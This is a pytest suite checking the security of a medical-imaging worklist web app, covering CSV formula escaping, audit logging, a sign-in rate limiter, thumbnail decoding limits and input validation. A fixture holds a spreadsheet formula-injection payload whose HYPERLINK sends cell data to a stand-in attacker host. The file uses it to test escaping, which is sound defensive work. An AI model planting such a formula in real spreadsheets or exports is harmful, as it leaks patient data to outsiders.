"""Security of the web worklist (issue 25, items 7 and 9-15), with FastAPI's test client on a real
database and real films on disk. Sessions and the event loop against a real uvicorn server over a
socket: test_web_sessions_live.py.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import threading
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
from fastapi.testclient import TestClient
from PIL import Image as PILImage

from db import queue
from db.audit import events
from db.engine import session_scope
from db.queue import FileSeen
from db.users import add_user
from tests.conftest import score_record
from worker.settings import Settings
from worker.web import images
from worker.web.app import create_app
from worker.web.auth import SignInLimiter

ORIGIN = {"Origin": "http://testserver"}
PASSWORD = "a long enough password"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _film(path: Path, side: int, seed: int, fmt: str = "PNG") -> str:
    rng = np.random.default_rng(seed)
    pixels = rng.integers(0, 255, (side, side)).astype(np.uint8)
    path.parent.mkdir(parents=True, exist_ok=True)
    PILImage.fromarray(pixels, mode="L").save(path, format=fmt)
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def site(url, tmp_path):
    """Two scored films (one with a formula as its patient name, one a 2048 px JPEG 2000); users."""
    shas = []
    films = [(tmp_path / "drop" / "a.png", 256, "PNG"), (tmp_path / "drop" / "big.jp2", 2048, "JPEG2000")]
    for n, (path, side, fmt) in enumerate(films):
        sha = _film(path, side, n, fmt)
        with session_scope(url) as session:
            image_id, _ = queue.register(session, FileSeen(str(path), path.stat().st_size, n), sha)
            attributes = {"patient_name": FORMULA_NAME, "patient_id": "-1+1"} if n == 0 else None
            queue.record_score(session, image_id, score_record(0.9 - n * 0.5), attributes)
        shas.append(sha)
    with session_scope(url) as session:
        add_user(session, "viewer", PASSWORD, "viewer")
        add_user(session, "reader", PASSWORD, "reviewer")
    return url, shas


@pytest.fixture
def app(site):
    return create_app(Settings.build(database_url=site[0]))


@pytest.fixture
def client(app):
    with TestClient(app, raise_server_exceptions=False) as test_client:
        yield test_client


def _sign_in(client: TestClient, username: str = "viewer") -> str:
    response = client.post("/login", data={"username": username, "password": PASSWORD}, headers=ORIGIN)
    assert response.status_code == 200, response.text
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get("/").text).group(1)


def _basic(username: str, password: str = PASSWORD) -> dict:
    return {"Authorization": "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()}


# -- item 7: CSV formula injection --------------------------------------------------------------------


def test_spreadsheet_formulas_are_escaped_numbers_are_not():
    from db.worklist_csv import spreadsheet_safe, write_csv

    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA_NAME):
        assert spreadsheet_safe(formula) == "'" + formula
    assert spreadsheet_safe("Doe^Jane") == "Doe^Jane"
    assert spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe(None) is None
    buffer = io.StringIO()
    write_csv([{"patient_name": FORMULA_NAME, "score": -1.5, "paths": ["x"]}], buffer)
    assert list(csv.DictReader(io.StringIO(buffer.getvalue()))) == [
        {"patient_name": "'" + FORMULA_NAME, "score": "-1.5"}
    ]


def test_web_csv_export_escapes_formulas(client):
    token = _sign_in(client)
    exported = client.post("/export.csv", data={"csrf_token": token}, headers=ORIGIN)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    names = [row["patient_name"] for row in rows if row["patient_name"]]
    assert names == ["'" + FORMULA_NAME]
    assert [row["patient_id"] for row in rows if row["patient_id"]] == ["'-1+1"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(value), value


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


# -- item 9: bulk reads are audited -------------------------------------------------------------------


def test_bulk_reads_of_patient_data_are_audited(client, site):
    url, shas = site
    assert client.get("/api/worklist?limit=1000", headers=_basic("viewer")).status_code == 200
    assert client.get(f"/api/films/{shas[0]}/image.png?size=64", headers=_basic("viewer")).status_code == 200
    assert client.get(f"/api/films/{shas[0]}/image.png", headers=_basic("viewer")).status_code == 200
    # The same thumbnail again (a page refresh) is not a new audit row.
    assert client.get(f"/api/films/{shas[0]}/image.png?size=64", headers=_basic("viewer")).status_code == 200
    with session_scope(url) as session:
        logged = [(e["action"], e["username"], e["sha256"], e["detail"]) for e in events(session)]
    assert ("list", "viewer", None, "api worklist: 2 rows (limit 1000, offset 0)") in logged
    assert ("view", "viewer", shas[0], "thumbnail") in logged
    assert ("view", "viewer", shas[0], "image") in logged
    assert sum(1 for entry in logged if entry[3] == "thumbnail") == 1
    token = _sign_in(client)
    client.post("/export.csv", data={"csrf_token": token}, headers=ORIGIN)
    with session_scope(url) as session:
        assert [e["detail"] for e in events(session) if e["action"] == "export"] == ["2 rows (csv)"]


# -- items 10 and 15: the sign-in limiter -------------------------------------------------------------------


def test_failed_sign_ins_from_one_address_do_not_lock_out_a_colleague(app):
    with (
        TestClient(app, client=("198.51.100.7", 40000)) as attacker,
        TestClient(app, client=("192.0.2.10", 40000)) as colleague,
    ):
        app.state.web.limiter.first_delay_s = 60.0  # a wait that outlasts the test
        for _ in range(5):  # three free failures, one that starts the wait, one refused
            attacker.post("/login", data={"username": "reader", "password": "wrong wrong"}, headers=ORIGIN)
        assert attacker.get("/api/worklist", headers=_basic("reader")).status_code == 429
        right = {"username": "reader", "password": PASSWORD}
        signed_in = colleague.post("/login", data=right, headers=ORIGIN, follow_redirects=False)
        assert signed_in.status_code == 303  # the colleague at another machine is not locked out
        assert colleague.get("/api/worklist", headers=_basic("reader")).status_code == 200
        refused = attacker.post("/login", data=right, headers=ORIGIN)
        assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1


def test_the_delay_grows_with_each_failure_and_ends():
    now = [1000.0]
    limiter = SignInLimiter(free_failures=2, first_delay_s=1.0, max_delay_s=8.0, clock=lambda: now[0])
    waits = []
    for _ in range(7):
        limiter.failed("203.0.113.5", "reader")
        try:
            limiter.check("203.0.113.5", "reader")
            waits.append(0.0)
        except Exception as exc:  # TooManyAttempts
            waits.append(exc.retry_after_s)
    assert waits == [0.0, 0.0, 1.0, 2.0, 4.0, 8.0, 8.0]
    now[0] += 8.5
    limiter.check("203.0.113.5", "reader")  # the wait is over
    limiter.check("203.0.113.6", "reader")  # another address never waited


def test_the_limiters_memory_is_bounded():
    limiter = SignInLimiter()
    tracemalloc.start()
    try:
        for n in range(100_000):
            limiter.failed("198.51.100.9", f"name-{n}")
        current, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert current < 16 * 2**20, f"{current / 2**20:.0f} MB for 100,000 names"


# -- item 12: thumbnails decode only what they show -----------------------------------------------------


def test_thumbnails_use_the_reduced_decode(client, site, monkeypatch):
    _, shas = site
    decoded = []
    real = images.decode_bytes

    def spy(data, **kwargs):
        result = real(data, **kwargs)
        # the worklist's thumbnails are made in the background ("thumbnails" threads): not this request's
        if not threading.current_thread().name.startswith("thumbnails"):
            decoded.append(result.pixels.shape)
        return result

    monkeypatch.setattr(images, "decode_bytes", spy)
    images._cache._items.clear()
    thumb = client.get(f"/api/films/{shas[1]}/image.png?size=64", headers=_basic("viewer"))
    assert thumb.status_code == 200 and PILImage.open(io.BytesIO(thumb.content)).size == (64, 64)
    assert decoded and max(decoded[0]) < 2048 and min(decoded[0]) >= 64, decoded
    assert client.get(f"/api/films/{shas[1]}/image.png?size=64", headers=_basic("viewer")).status_code == 200
    assert len(decoded) == 1  # the second one came from the cache
    assert images.film_pixels(shas[1], [str(site_path) for site_path in _paths(site)], 512).shape[0] >= 512


def _paths(site) -> list[Path]:
    url, shas = site
    with session_scope(url) as session:
        from db.worklist import film

        return [Path(film(session, shas[1])["path"])]


def test_a_decode_queue_that_stays_full_answers_503(client, site, monkeypatch):
    _, shas = site
    monkeypatch.setattr(images, "DECODE_WAIT_S", 0.05)
    images._cache._items.clear()
    taken = [images._decode_slots.acquire() for _ in range(images.MAX_CONCURRENT_DECODES)]
    try:
        busy = client.get(f"/api/films/{shas[0]}/image.png?size=80", headers=_basic("viewer"))
    finally:
        for _ in taken:
            images._decode_slots.release()
    assert busy.status_code == 503 and "Content-Security-Policy" in busy.headers


# -- item 13: extreme filter values -------------------------------------------------------------------


@pytest.mark.parametrize(
    "form",
    [
        {"offset": "99999999999999999999"},
        {"arrived_to": "9999-12-31"},
        {"arrived_from": "0001-01-01"},
        {"search": "MRN\x00-1"},
        {"folder": "/srv/\x00drop"},
        {"search": "x" * 5000},
    ],
)
def test_extreme_filter_values_are_refused_not_a_500(client, form, caplog):
    token = _sign_in(client)
    for path in ("/rows", "/export.csv"):
        response = client.post(path, data={"csrf_token": token, **form}, headers=ORIGIN)
        assert response.status_code == 400, (path, response.status_code)
        assert "Content-Security-Policy" in response.headers and "Traceback" not in response.text
    assert "Traceback" not in caplog.text and "internal error" not in caplog.text


@pytest.mark.parametrize(
    "query", ["offset=99999999999999999999", "study_date_to=9999-12-31", "limit=1&offset=-1", "limit=100000"]
)
def test_extreme_api_values_are_refused_not_a_500(client, query):
    response = client.get(f"/api/worklist?{query}", headers=_basic("viewer"))
    assert response.status_code in (400, 422), response.status_code
    assert "Content-Security-Policy" in response.headers and "Traceback" not in response.text


# -- item 14: HTTP Basic only on the API ---------------------------------------------------------------------


def test_http_basic_is_not_accepted_on_pages_and_forms(client, site):
    _, shas = site
    client.cookies.clear()
    # A cross-site form post carrying Basic credentials (a browser can be made to send them).
    posted = client.post("/rows", data={"search": "x"}, headers=_basic("viewer"), follow_redirects=False)
    assert posted.status_code == 303 and posted.headers["location"] == "/login"
    target, agree = f"/films/{shas[0]}/review", {"decision": "agree"}
    review = client.post(target, data=agree, headers=_basic("reader"), follow_redirects=False)
    assert review.status_code == 303
    assert client.get("/", headers=_basic("viewer"), follow_redirects=False).status_code == 303
    assert client.get("/api/worklist", headers=_basic("viewer")).status_code == 200
    assert client.get(f"/api/films/{shas[0]}", headers=_basic("viewer")).json()["reviews"] == []


# -- item 7 (command line) and the password change ----------------------------------------------------------


def test_worklist_csv_on_the_command_line_escapes_formulas(site):
    from tests.web_helpers import cli

    url, _ = site
    result = cli("worklist", "--format", "csv", "--database-url", url)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["patient_name"] for row in rows if row["patient_name"]] == ["'" + FORMULA_NAME]
    assert [row["patient_id"] for row in rows if row["patient_id"]] == ["'-1+1"]


def test_users_passwd_sets_a_new_password_and_is_audited(site):
    from tests.web_helpers import cli

    url, _ = site
    new = "a brand new password\n"
    changed = cli("users", "passwd", "viewer", "--database-url", url, stdin=new)
    assert changed.returncode == 0, changed.stderr
    assert cli("users", "passwd", "nobody", "--database-url", url, stdin=new).returncode == 2
    with session_scope(url) as session:
        from db.users import authenticate

        assert authenticate(url, "viewer", "a brand new password") is not None
        assert authenticate(url, "viewer", PASSWORD) is None
        assert ("password_change", "viewer") in [(e["action"], e["detail"]) for e in events(session)]
